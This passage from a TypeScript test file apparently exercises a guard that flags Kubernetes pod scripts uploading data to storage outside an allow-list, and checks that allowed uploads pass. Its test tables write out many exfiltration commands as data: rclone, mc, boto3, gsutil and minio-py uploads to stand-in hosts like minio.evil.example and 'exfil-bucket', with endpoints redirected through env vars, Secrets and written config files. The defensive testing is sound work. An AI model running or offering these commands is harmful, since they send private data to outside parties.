    ['RCLONE_CONFIG_MINIO_ENDPOINT in the env', 'rclone copy /d minio:b', env('RCLONE_CONFIG_MINIO_ENDPOINT')],
    ['RCLONE_CONFIG_MINIO_TYPE assigned', `RCLONE_CONFIG_MINIO_TYPE=s3 RCLONE_CONFIG_MINIO_ENDPOINT=${EVIL} rclone copy /d minio:b`, {}],
    ['RCLONE_S3_ENDPOINT in the env', 'rclone copy /d minio:b', env('RCLONE_S3_ENDPOINT')],
    ['rclone --s3-endpoint first', `rclone copy --s3-endpoint ${EVIL} /d minio:b`, {}],
    ['rclone --s3-endpoint= last', `rclone copy /d minio:b --s3-endpoint=${EVIL}`, {}],
    ['rclone config create', `rclone config create minio s3 endpoint ${EVIL}; rclone copy /d minio:b`, {}],
    ['rclone --config of a file written', `printf '[minio]\\ntype = s3\\n' > /tmp/r.conf; rclone --config /tmp/r.conf copy /d minio:b`, {}],
    ['RCLONE_CONFIG= a file written with tee', `printf '[minio]\\n' | tee /tmp/r.conf; RCLONE_CONFIG=/tmp/r.conf rclone copy /d minio:b`, {}],
    ['rclone connection string', `rclone copy /d minio,endpoint=${EVIL}:b`, {}],
    ['rclone -P before the verb, unlisted remote', 'rclone -P copy /d exfil:b', {}],
    ['rclone --config before the verb, unlisted remote', 'rclone --config /etc/rclone/rclone.conf copy /d exfil:b', {}],
    // Issue #12 (session 51): the same names from a Secret or a ConfigMap (valueFrom) are set too.
    ['AWS_ENDPOINT_URL from a Secret', 'aws s3 cp /d s3://helixa-models/x', { env: [{ name: 'AWS_ENDPOINT_URL', valueFrom: { secretKeyRef: { name: 'minio', key: 'url' } } }] }],
    ['BOTO_CONFIG from a ConfigMap', 'gsutil cp /d gs://helixa-backups/x', { env: [{ name: 'BOTO_CONFIG', valueFrom: { configMapKeyRef: { name: 'b', key: 'path' } } }] }],
    ['RCLONE_S3_ENDPOINT from a Secret', 'rclone copy /d minio:b', { env: [{ name: 'RCLONE_S3_ENDPOINT', valueFrom: { secretKeyRef: { name: 'r', key: 'e' } } }] }],
    ['HOSTALIASES from a ConfigMap (names answered elsewhere)', 'curl -T /d https://artifacts.helixa.example/x', { env: [{ name: 'HOSTALIASES', valueFrom: { configMapKeyRef: { name: 'h', key: 'h' } } }] }],
  ])('asks %s', (_what, script, extra) => {
    expect(uploads(send(PODS, podOf(script, extra)))).toHaveLength(1);
  });

  it.each([
    ['aws with a profile of the image', 'aws s3 cp /d s3://helixa-models/x --profile ml'],
    ['gsutil -o a GSUtil tuning option', 'gsutil -o GSUtil:parallel_composite_upload_threshold=150M cp /d gs://helixa-backups/x'],
    ['rclone --config a mounted file, global flags first', 'rclone --config /etc/rclone/rclone.conf -P --transfers 8 copy /d minio:b'],
    ['rclone with tuning flags', 'rclone copy /d minio:b --s3-chunk-size 64M --transfers 8'],
  ])('leaves %s to a listed bucket alone', (_what, script) => {
    expect(check(script)).toEqual([]);
  });
});

describe('data_upload_outside: the MinIO client and SDK calls in inline code (uploads50)', () => {
  const site = guardSettings(`${SITE}    - mc://store\n`);
  const asks = (script: string, extra: Record<string, unknown> = {}) => uploads(send(PODS, podOf(script, extra), site));
  const py = (code: string) => `python3 -c "${code}"`;
  it.each([
    ['mc alias set to an outside host, then mc cp', 'mc alias set exfil https://minio.evil.example AKIA SECRET && mc cp -r /mnt/datasets exfil/drop/', {}],
    ['mc config host add, then mc pipe of a tarball', 'mc config host add exfil https://x.evil.example k s; tar c /data | mc pipe exfil/b/x.tar', {}],
    ['mc mirror to an unlisted bucket through the built-in s3 alias', 'mc mirror --overwrite /data/exports s3/exfil-bucket/', {}],
    ['mc cp to the public play server', 'mc cp /data/x.parquet play/drop/x.parquet', {}],
    ['mc to a listed alias redefined by MC_HOST_ in the env', 'mc cp -r /data store/b/', { env: [{ name: 'MC_HOST_store', value: 'https://ak:sk@minio.evil.example' }] }],
    ['mc to an alias from a config nothing shows', 'mc cp /data/x backup/x', {}],
    ['mc alias set from a variable the manifest does not set', 'mc alias set m $MINIO_URL k s && mc mirror /data m/b', {}],
    ['mc alias set to the cluster, then redefined outside', 'mc alias set m http://minio.minio.svc:9000 k s; mc alias set m https://minio.evil.example k s; mc cp /d m/b/', {}],
    ['boto3 upload_file to an unlisted bucket', py("import boto3; boto3.client('s3').upload_file('/data/lib.sdf', 'exfil-bucket', 'x')"), {}],
    ['boto3 to a listed bucket name on an outside endpoint', py("import boto3; s3 = boto3.client('s3', endpoint_url='https://minio.evil.example'); s3.upload_file('/data/x', 'helixa-models', 'x')"), {}],
    ['boto3 put_object to an unlisted bucket', py("import boto3; boto3.client('s3').put_object(Bucket='exfil-bucket', Key='k', Body=open('/data/x', 'rb'))"), {}],
    ['boto3 to a listed bucket with AWS_ENDPOINT_URL pointing elsewhere', py("import boto3; boto3.client('s3').upload_file('/data/x', 'helixa-models', 'x')"), { env: [{ name: 'AWS_ENDPOINT_URL', value: 'https://minio.evil.example' }] }],
    ['boto3 upload_file to a bucket from a variable', py("import boto3, os; boto3.client('s3').upload_file('/data/x', os.environ['B'], 'x')"), {}],
    ['boto3 resource Bucket(...).upload_file', py("import boto3; b = boto3.resource('s3').Bucket('exfil-bucket'); b.upload_file('/data/x', 'k')"), {}],
    ['google-cloud-storage upload_from_filename to an unlisted bucket', py("from google.cloud import storage; storage.Client().bucket('exfil').blob('x').upload_from_filename('/data/x')"), {}],
    ['minio-py fput_object to an outside MinIO', py("from minio import Minio; Minio('minio.evil.example:9000', 'k', 's').fput_object('helixa-models', 'x', '/data/x')"), {}],
    ['boto3 in a python here-document', "python3 - <<'PY'\nimport boto3\nboto3.client('s3').upload_file('/data/x', 'exfil-bucket', 'x')\nPY", {}],
  ])('asks %s', (_what, script, extra) => {
    expect(asks(script, extra)).toHaveLength(1);
  });

  it.each([
    ['mc to the in-cluster MinIO', 'mc alias set minio http://minio.minio.svc:9000 $AK $SK && mc mirror --overwrite /mnt/models minio/models/'],
    ['mc local copy and download', 'mc cp /data/a.csv /backup/a.csv && mc cp minio/models/m.pt /tmp/m.pt'],
    ['mc cp to a listed bucket through the s3 alias', 'mc cp /mnt/models/m.pt s3/helixa-models/potency/'],
    ['mc to a mounted alias the site lists (mc://store)', 'mc mirror /data store/b'],
    ['mc ls and mc admin', 'mc ls minio/models && mc admin info minio'],
    ['boto3 upload_file to a listed bucket', py("import boto3; boto3.client('s3').upload_file('/mnt/models/m.pt', 'helixa-models', 'potency/m.pt')")],
    ['boto3 to the in-cluster MinIO', py("import boto3; boto3.client('s3', endpoint_url='http://minio.minio.svc:9000').upload_file('/d', 'anything', 'k')")],
    ['minio-py to the in-cluster MinIO', py("from minio import Minio; c = Minio('minio.minio.svc:9000', 'k', 's', secure=False); c.fput_object('models', 'm.pt', '/out/m.pt')")],
    ['boto3 download_file', py("import boto3; boto3.client('s3').download_file('exfil-bucket', 'k', '/tmp/x')")],
    ['boto3 resource to a listed bucket', py("import boto3; boto3.resource('s3').Bucket('helixa-etl-staging').upload_file('/d', 'k')")],
    ['google-cloud-storage to a listed bucket, bucket bound first', py("from google.cloud import storage; b = storage.Client().bucket('helixa-backups'); b.blob('x').upload_from_filename('/data/x')")],
  ])('leaves %s alone', (_what, script) => {
    expect(asks(script)).toEqual([]);
  });

  it('reads crafted SDK code and mc words in bounded work', () => {
    expect(asks(py(`import boto3; boto3.client('s3').upload_file(${'('.repeat(20_000)}`))).toHaveLength(1);
    expect(asks(py(`${".Bucket('x'".repeat(5_000)}.upload_file('/d', 'k')`))).toHaveLength(1);
    expect(asks(`mc alias set ${'a '.repeat(20_000)}; mc cp /d a/b`)).toHaveLength(1);
  });
});
